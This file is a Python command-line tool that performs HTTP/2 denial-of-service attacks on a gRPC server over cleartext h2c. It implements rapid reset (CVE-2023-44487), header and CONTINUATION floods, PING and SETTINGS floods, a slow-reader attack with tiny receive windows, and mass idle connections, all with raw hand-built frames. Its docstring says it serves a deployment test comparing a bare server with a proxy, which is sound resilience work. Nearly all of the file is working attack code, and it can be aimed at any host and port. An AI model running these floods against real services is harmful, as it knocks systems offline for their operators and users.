#!/usr/bin/python3
"""HTTP/2 attacks on a gRPC server, over cleartext HTTP/2 (h2c, prior knowledge).

  h2_attack.py ATTACK HOST:PORT [--seconds N]

scripts/test-deployment.sh runs each against a bare attention-server and through
the proxy while an honest client measures what is left for it. Each attack runs
for --seconds (default 5), then prints one line: what it sent and what the peer
did. A flood whose connection the peer ends (GOAWAY, close, reset) goes on at once
on a new one, as an attacker would.

  rapid-reset         a gRPC call's HEADERS and at once RST_STREAM(CANCEL), stream
                      after stream, as fast as the socket takes them (CVE-2023-44487)
  header-flood        calls whose HEADERS carry 40 extra never-indexed fields of 100
                      bytes (4.5 KiB to decode each time, under gRPC's 8 KiB limit),
                      ended at once (END_STREAM); as many open as the peer allows
  continuation-flood  a call's HEADERS without END_HEADERS, then CONTINUATION frames
                      of 140 header fields (16 KiB) each, the block never ended
  ping-flood          PING frames as fast as possible, an ACK owed for each (CVE-2019-9512)
  settings-flood      SETTINGS frames as fast as possible, each to apply and ACK
                      (CVE-2019-9515)
  slow-reader         --connections (8) connections, each with up to 100 real
                      SelfAttention calls (64 KiB in, about 1 MiB out: per-head weights)
                      under a 16-byte receive window, then never read: the responses
                      stay in the peer
  idle-connections    --connections (1000) connections: TCP, preface, SETTINGS (and the
                      peer's ACKed), then nothing

Frames are written raw (h2's state machine would refuse most of these) and the peer's
tallied by their headers, hyperframe (shipped with Debian's python3-h2) parsing its
SETTINGS; slow-reader uses h2's state machine, which does the flow control.
"""
import argparse
import collections
import os
import resource
import select
import socket
import struct
import threading
import time

import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hpack
from hyperframe.frame import SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM, END_HEADERS, ACK, CANCEL = 0x1, 0x4, 0x1, 0x8
NAMES = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY",
         8: "WINDOW_UPDATE", 9: "CONTINUATION"}
ERRORS = {e.value: e.name for e in h2.errors.ErrorCodes}  # RST_STREAM's and GOAWAY's codes


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def call_headers(authority, path="/attention.v1.AttentionService/SelfAttention"):
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers")]


def junk_fields(count, size=100):
    return [hpack.NeverIndexedHeaderTuple(f"x-flood-{i}", os.urandom(size // 2).hex())
            for i in range(count)]


def connect(addr, timeout):
    """A TCP connection that closes with a reset: no TIME_WAIT on our side (a thousand
    on 127.0.0.1 could keep a listener off its port for a minute)."""
    sock = socket.create_connection(addr, timeout=timeout)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def pop_frames(buf):
    """The whole frames at the start of bytearray `buf`, as (type, flags, payload), taken
    out of it. Only the 9-byte header is parsed here: cheap enough for 100,000 frames a
    second (hyperframe parses the few payloads that matter)."""
    at = 0
    while len(buf) - at >= 9:
        length = int.from_bytes(buf[at:at + 3], "big")
        if len(buf) - at < 9 + length:
            break
        yield buf[at + 3], buf[at + 4], bytes(buf[at + 9:at + 9 + length])
        at += 9 + length
    del buf[:at]


def aftermath(socks):
    """What the peer did to connections we stopped reading: how many it closed, how
    many got a GOAWAY (read now, without waiting)."""
    closed = goaway = 0
    for sock in socks:
        buf, eof = bytearray(), False
        while not eof and select.select([sock], [], [], 0)[0]:
            try:
                data = sock.recv(1 << 16)
            except OSError:
                data = b""
            eof = not data
            buf += data
        closed += eof
        goaway += any(kind == GOAWAY for kind, _, _ in pop_frames(buf))
    return f"{len(socks) - closed} still open, {closed} closed by the peer, {goaway} got GOAWAY"


class Peer:
    """One raw h2c connection; a thread reads the peer's frames, tallies them and ACKs
    its SETTINGS (as any client must)."""

    def __init__(self, addr, read=True):
        self.start = time.monotonic()
        self.sock = connect(addr, 5)
        self.frames = collections.Counter()
        self.max_streams = 100  # the peer's SETTINGS_MAX_CONCURRENT_STREAMS
        self.closed_streams = 0  # streams the peer ended (END_STREAM or RST_STREAM)
        self.ended = None  # how the peer ended the connection: "GOAWAY <code>", "closed", ...
        self.lifetime = None
        self.lock = threading.Lock()
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        if read:
            threading.Thread(target=self._read, daemon=True).start()

    def send(self, data):
        try:
            with self.lock:
                self.sock.sendall(data)
            return not self.ended
        except socket.timeout:
            self._end("stopped reading (a send blocked 5 s)")
        except OSError as e:
            self._end(f"send failed ({e.strerror or e})")
        return False

    def close(self):
        self.ended = self.ended or "still open at the end"
        self.sock.close()

    def _end(self, why):
        if not self.ended:
            self.ended, self.lifetime = why, time.monotonic() - self.start

    def _read(self):
        buf = bytearray()
        while not self.ended or self.ended.startswith("GOAWAY"):
            try:
                data = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError as e:
                return self._end(f"reset ({e.strerror or e})")
            if not data:
                return self._end("closed")
            buf += data
            for kind, flags, payload in pop_frames(buf):
                self._on(kind, flags, payload)

    def _on(self, kind, flags, payload):
        name = NAMES.get(kind, f"type {kind}")
        self.closed_streams += kind == RST_STREAM or kind in (DATA, HEADERS) and flags & END_STREAM
        if kind in (PING, SETTINGS) and flags & ACK:
            name += " ACK"
        elif kind == SETTINGS:
            f = SettingsFrame(0)
            f.parse_body(memoryview(payload))
            self.max_streams = f.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS, self.max_streams)
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == RST_STREAM:
            name += " " + ERRORS.get(int.from_bytes(payload[:4], "big"), "?")
        elif kind == GOAWAY:
            self._end("GOAWAY " + ERRORS.get(int.from_bytes(payload[4:8], "big"), "?"))
        self.frames[name] += 1


def flood(addr, until, unit, per_batch, first=b"", streams=False):
    """On a connection: `first`, then `unit(i)` (the bytes of item i) in batches until the
    time is up; a connection the peer ends is replaced. With `streams` each item opens a
    stream, at most the peer's limit open at once. Returns (items sent, what the peer did)."""
    peers, failed, n = [], collections.Counter(), 0
    while time.monotonic() < until:
        try:
            c = Peer(addr)
        except OSError as e:
            failed[f"connect failed ({e.strerror or e})"] += 1
            time.sleep(0.01)
            continue
        peers.append(c)
        i = 0
        c.send(first)
        while time.monotonic() < until and not c.ended:
            if streams and i + per_batch - c.closed_streams > c.max_streams:
                time.sleep(0.0002)
            elif c.send(b"".join(unit(i + k) for k in range(per_batch))):
                i += per_batch
        n += i
        time.sleep(0.05 if c.ended else 0)  # the reader's last frames
        c.close()
    ended = collections.Counter(p.ended for p in peers) + failed
    lives = [p.lifetime for p in peers if p.lifetime is not None]
    life = f" (after {sum(lives) / len(lives):.2f} s on average)" if lives else ""
    got = sum((p.frames for p in peers), collections.Counter())
    return n, (f"{len(peers)} connection(s); the peer: {dict(ended)}{life}; received "
               + (", ".join(f"{k} {v}" for v, k in got.most_common()) or "nothing"))


def rapid_reset(addr, until, args):
    block = hpack.Encoder().encode(call_headers(args.target))
    n, peer = flood(addr, until, lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, block)
                    + frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", CANCEL)), 100)
    return f"sent {n} streams (HEADERS + RST_STREAM CANCEL each) on {peer}"


def header_flood(addr, until, args):
    block = hpack.Encoder().encode(call_headers(args.target) + junk_fields(40), huffman=False)
    n, peer = flood(addr, until, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block),
                    10, streams=True)
    return f"sent {n} streams, each one HEADERS of {len(block)} bytes, on {peer}"


def continuation_flood(addr, until, args):
    first = frame(HEADERS, 0, 1, hpack.Encoder().encode(call_headers(args.target)))
    more = frame(CONTINUATION, 0, 1, hpack.Encoder().encode(junk_fields(140), huffman=False))
    n, peer = flood(addr, until, lambda i: more, 16, first=first)
    return f"sent {n} CONTINUATION frames ({n * len(more) >> 20} MiB) after HEADERS, on {peer}"


def ping_flood(addr, until, args):
    n, peer = flood(addr, until, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), 500)
    return f"sent {n} PINGs on {peer}"


def settings_flood(addr, until, args):
    # INITIAL_WINDOW_SIZE alternating (the peer must adjust every stream's window), MAX_FRAME_SIZE.
    n, peer = flood(addr, until, lambda i: frame(SETTINGS, 0, 0, struct.pack(
        ">HIHI", 0x4, 65535 + i % 2, 0x5, 16384)), 500)
    return f"sent {n} SETTINGS frames on {peer}"


def self_attention_request(seq, model, embed=64):
    """A gRPC message: a SelfAttentionRequest (protobuf, encoded here) for an input
    [1, seq, embed] of zeros, per-head weights asked for."""
    def varint(n):
        out = bytearray()
        while n > 0x7F:
            out.append(n & 0x7F | 0x80)
            n >>= 7
        return bytes(out + bytes((n,)))

    def field(number, payload):  # length-delimited
        return varint(number << 3 | 2) + varint(len(payload)) + payload

    tensor = field(2, b"".join(varint(d) for d in (1, seq, embed))) + field(3, bytes(seq * embed * 4))
    options = varint(7 << 3) + varint(2) + field(8, model.encode())  # weights: WEIGHTS_PER_HEAD
    message = field(1, b"slow") + field(2, tensor) + field(3, options)
    return b"\0" + struct.pack(">I", len(message)) + message


def slow_calls(addr, body, until, args, notes):
    """One connection with a 16-byte stream window and as many calls as the peer allows
    (at most 100), their requests sent whole; returns (socket, calls sent)."""
    sock = connect(addr, 1)
    h = h2.connection.H2Connection()
    h.local_settings = h2.settings.Settings(
        client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 16})
    h.initiate_connection()
    pending, calls, allowed = {}, 0, None
    while time.monotonic() < until and (allowed is None or pending):
        sock.sendall(h.data_to_send())
        try:
            data = sock.recv(1 << 16)
        except socket.timeout:
            continue
        if not data:
            raise ConnectionError("closed by the peer")
        for e in h.receive_data(data):
            if isinstance(e, h2.events.RemoteSettingsChanged) and allowed is None:
                allowed = min(100, h.remote_settings.max_concurrent_streams)
                for _ in range(allowed):
                    s = h.get_next_available_stream_id()
                    h.send_headers(s, call_headers(args.target))
                    pending[s] = body
            elif isinstance(e, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                notes[type(e).__name__] += 1
                pending.pop(getattr(e, "stream_id", None), None)
        for s, rest in list(pending.items()):  # the bodies, as the peer's windows allow
            k = min(len(rest), h.local_flow_control_window(s), h.max_outbound_frame_size)
            if k:
                h.send_data(s, rest[:k], end_stream=(k == len(rest)))
                pending[s] = rest[k:]
                if not pending[s]:
                    del pending[s]
                    calls += 1
    sock.sendall(h.data_to_send())
    return sock, calls


def slow_reader(addr, until, args):
    body = self_attention_request(255, args.model)  # 64 KiB: within one stream window
    socks, calls, notes = [], 0, collections.Counter()
    for _ in range(args.connections or 8):
        try:
            sock, n = slow_calls(addr, body, until, args, notes)
            socks.append(sock)
            calls += n
        except (OSError, h2.exceptions.ProtocolError) as e:
            notes[f"{type(e).__name__}: {e}"] += 1
    time.sleep(max(0, until - time.monotonic()))  # and never read
    return (f"{calls} calls sent on {len(socks)} connections (about 1 MiB of response each, "
            f"16-byte windows), never read: {aftermath(socks)}; "
            f"while sending: {dict(notes) or 'no resets'}")


def idle_connections(addr, until, args):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    peers, failed = [], collections.Counter()
    for _ in range(args.connections or 1000):
        try:
            peers.append(Peer(addr, read=False))
        except OSError as e:
            failed[e.strerror or str(e)] += 1
    time.sleep(0.5)
    for p in peers:  # the peer's SETTINGS (sent first) ACKed, as an idle client would
        p.send(frame(SETTINGS, ACK, 0))
    time.sleep(max(0, until - time.monotonic()))
    return (f"opened {len(peers)} connections ({dict(failed) or 'none refused'}), held them "
            f"{args.seconds:g} s: {aftermath([p.sock for p in peers])}")


ATTACKS = {"rapid-reset": rapid_reset, "header-flood": header_flood,
           "continuation-flood": continuation_flood, "ping-flood": ping_flood,
           "settings-flood": settings_flood, "slow-reader": slow_reader,
           "idle-connections": idle_connections}


def main():
    p = argparse.ArgumentParser(description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=ATTACKS)
    p.add_argument("target", help="HOST:PORT")
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--connections", type=int, help="slow-reader (8), idle-connections (1000)")
    p.add_argument("--model", default="demo", help="slow-reader's model (embed_dim 64)")
    args = p.parse_args()
    host, _, port = args.target.rpartition(":")
    until = time.monotonic() + args.seconds
    line = ATTACKS[args.attack]((host, int(port)), until, args)
    print(f"{args.attack} on {args.target}, {args.seconds:g} s: {line}", flush=True)


if __name__ == "__main__":
    main()
